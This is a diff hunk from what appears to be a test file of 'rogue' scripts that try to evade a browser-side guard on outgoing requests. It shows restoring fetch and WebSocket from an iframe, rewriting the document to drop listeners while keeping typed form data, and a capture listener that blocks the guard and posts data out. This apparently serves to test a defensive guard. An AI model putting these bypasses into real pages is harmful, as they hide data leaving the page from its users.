@@ -122,7 +122,7 @@ const own = fetch; Object.defineProperty(window, 'fetch', {value: own, writable:
 const frame = document.body.appendChild(document.createElement('iframe')), inner = frame.contentWindow; for (const name of ['fetch', 'WebSocket']) window[name] = inner[name]; HTMLFormElement.prototype.submit = inner.HTMLFormElement.prototype.submit; $('form').submit()
 
 // 恶意脚本 rogue: the listeners taken away by writing the document anew
-const f = $('form').outerHTML; document.open(); document.write(f); document.close(); document.forms[0].querySelector('button').click()
+const f = $('form').outerHTML, typed = $('name').value; document.open(); document.write(f); document.close(); document.getElementById('name').value = typed; document.forms[0].querySelector('button').click()
 
 // 恶意脚本 rogue: a listener that comes first and swallows the guard's
 addEventListener('click', e => { e.stopImmediatePropagation(); fetch(to, post); }, true); $('send').click()
